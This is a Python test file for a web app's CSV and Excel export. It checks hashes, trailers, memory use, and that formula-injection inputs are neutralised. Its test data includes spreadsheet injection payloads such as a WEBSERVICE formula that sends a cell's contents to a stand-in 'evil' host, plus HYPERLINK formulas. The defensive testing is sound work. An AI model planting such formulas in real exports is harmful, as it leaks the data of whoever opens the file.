import csv
import hashlib
import io
import tracemalloc
from contextlib import closing

import pytest
from openpyxl import load_workbook

from tests.ui.things import Things, make
from ui.refusals import ActionRefused
from ui.screens import export as exporting
from ui.screens.export import quoted, write_csv, write_xlsx

VIEW = Things.as_view()


def read(response):
    with closing(response):
        return b"".join(response.streaming_content)


@pytest.mark.django_db
def test_the_export_holds_all_that_match_and_says_what_it_is(ask):
    make(*(f"thing{i:03}" for i in range(60)), "other")
    response = ask(VIEW, data={"export": "csv", "q": "thing"})
    data = read(response)
    rows = list(csv.reader(io.StringIO(data.decode())))
    assert rows[0] == ["Name", "App", "State"]
    assert rows[1] == ["thing000", "made", "fine"]
    trailer = [row[0] for row in rows if row and row[0].startswith("# ")]
    assert '# Filter: search "thing"' in data.decode()
    assert "# Rows: 60" in trailer
    assert response["Content-Disposition"].startswith('attachment; filename="things-')


@pytest.mark.django_db
def test_the_hash_covers_the_lines_above_the_trailer(ask):
    make("alpha")
    response = ask(VIEW, data={"export": "csv"})
    data = read(response)
    table = data[: data.index(b"# List")]
    assert hashlib.sha256(table).hexdigest() == response["X-Table-SHA256"]
    assert f"# SHA-256 of the lines above: {response['X-Table-SHA256']}".encode() in data


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formulas_are_quoted(text):
    assert quoted(text) == f"'{text}"


def test_ordinary_text_is_not():
    assert quoted("alpha = beta") == "alpha = beta"


def test_a_note_cannot_add_a_line():
    with write_csv(["A"], [], [("Filter", "x\r\n=HYPERLINK()")]).file as file:
        assert b"# Filter: x =HYPERLINK()\r\n" in file.read()


def test_many_rows_are_written_in_blocks():
    export = write_csv(["A"], ([str(i)] for i in range(2500)), [])
    with export.file as file:
        lines = file.read().decode().splitlines()
    assert (export.count, lines[2500]) == (2500, "2499")


@pytest.mark.django_db
def test_a_search_from_a_link_is_no_formula_in_the_trailer(ask):
    make("alpha")
    rows = csv.reader(
        io.StringIO(read(ask(VIEW, data={"export": "csv", "q": '=1+1,=WEBSERVICE("http://evil/"&A2), -2+3'})).decode())
    )
    assert [cell for row in rows for cell in row if cell.strip(' "').startswith(("=", "+", "-", "@"))] == []


def workbook(data):
    """Its sheets as rows of values, and the types of the first sheet's cells."""
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book}, book["List"]


@pytest.mark.django_db
def test_the_workbook_holds_the_rows_and_the_hash_of_the_csv(ask):
    make(*(f"thing{i:03}" for i in range(60)), "other")
    as_csv, as_xlsx = (ask(VIEW, data={"export": kind, "q": "thing", "page": "2"}) for kind in ("csv", "xlsx"))
    sheets, _ = workbook(read(as_xlsx))
    lines = list(csv.reader(io.StringIO(read(as_csv).decode())))
    assert sheets["List"] == lines[:61]
    about = dict(sheets["About"])
    assert about["Filter"] == 'search "thing"'
    assert about["Rows"] == "60"
    assert about["SHA-256 of the list as CSV"] == as_xlsx["X-Table-SHA256"] == as_csv["X-Table-SHA256"]
    assert as_xlsx["Content-Disposition"].endswith('.xlsx"')


def test_no_text_of_a_workbook_is_a_formula_a_link_or_a_number():
    hostile = ['=HYPERLINK("http://evil/")', "+1", "-1", "@SUM(A1)", "{=1+1}", "https://evil.example/", "007", "x\x0b\x01y"]
    with write_xlsx(["=A"] * 8, [hostile], [("Filter", "=1+1")]).file as file:
        sheets, sheet = workbook(file.read())
    cells = list(sheet[2])
    assert [cell.data_type for cell in cells] == ["s"] * 8
    assert [cell.hyperlink for cell in cells] == [None] * 8
    assert all(cell.quotePrefix for cell in cells)
    assert [cell.value for cell in cells][:7] == hostile[:7]
    assert (sheet["A1"].data_type, sheets["About"][0]) == ("s", ["Filter", "=1+1"])


def test_columns_of_numbers_are_numbers_and_long_text_is_cut_where_a_cell_ends():
    rows = [["12", "12"], ["", "x" * 40_000], ["\u0661", "-3"]]
    with write_xlsx(["Open", "Name"], rows, [], {0}).file as file:
        sheets, _ = workbook(file.read())
    assert sheets["List"][1] == [12, "12"]
    assert (sheets["List"][2][0], len(sheets["List"][2][1])) == (None, 32_767)
    assert sheets["List"][3] == ["\u0661", "-3"]


def test_a_workbook_refuses_what_it_would_lose(monkeypatch):
    monkeypatch.setattr(exporting, "SHEET_ROWS", 3)
    with write_xlsx(["A"], [["1"], ["2"]], []).file as file:
        assert len(workbook(file.read())[0]["List"]) == 3
    with pytest.raises(ActionRefused, match="Export them as CSV"):
        write_xlsx(["A"], [["1"], ["2"], ["3"]], [])


def test_a_large_workbook_needs_little_memory():
    tracemalloc.start()
    try:
        for count in (2_000, 20_000):
            tracemalloc.reset_peak()
            write_xlsx(["A", "B"], ([str(i), f"somebody {i}"] for i in range(count)), []).file.close()
            peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024


@pytest.mark.django_db
def test_an_unknown_kind_of_export_is_the_page(ask):
    make("alpha")
    response = ask(VIEW, data={"export": "pdf"})
    assert "text/html" in response["Content-Type"]
    assert "export=csv" in response.content.decode()
    assert "export=xlsx" in response.content.decode()
